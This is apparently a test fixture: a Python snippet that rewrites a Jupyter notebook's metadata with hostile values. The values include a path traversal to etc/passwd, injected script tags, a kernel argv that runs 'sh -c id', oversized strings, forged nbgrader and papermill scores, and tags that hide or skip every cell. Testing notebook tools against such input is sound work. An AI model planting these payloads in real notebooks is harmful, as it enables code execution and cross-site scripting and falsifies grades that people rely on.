"""Names kernels, languages, formats, titles and authors that lead elsewhere, run, or take for ever to read.

base: untouched
score: 0
"""
# %% notebook
up = "../" * 20 + "etc/passwd"
notebook["metadata"].update(
    kernelspec={"name": up, "display_name": "<script>document.title='20'</script>", "language": "bash", "argv": ["sh", "-c", "id"]},
    language_info={"name": "bash", "version": "9" * 100_000, "pygments_lexer": up, "file_extension": "/../../x",
                   "codemirror_mode": {"name": "<!--"}, "nbconvert_exporter": "os.system"},
    title="</title><script>document.title='20'</script>", authors=[{"name": "<h1>20/20</h1>"}] * 1000,
    jupytext={"formats": f"ipynb,{up}//py", "text_representation": {"extension": ".sh"}},
    papermill={"parameters": {"score": 20}}, nbgrader={"score": 20, "points": 1000}, celltoolbar="20/20",
)
for one in notebook["cells"]:
    one["metadata"].setdefault("jupyter", {})["source_hidden"] = True
    one["metadata"]["tags"] = ["remove-cell", "skip-execution", "hide-input", "raises-exception", "parameters"]
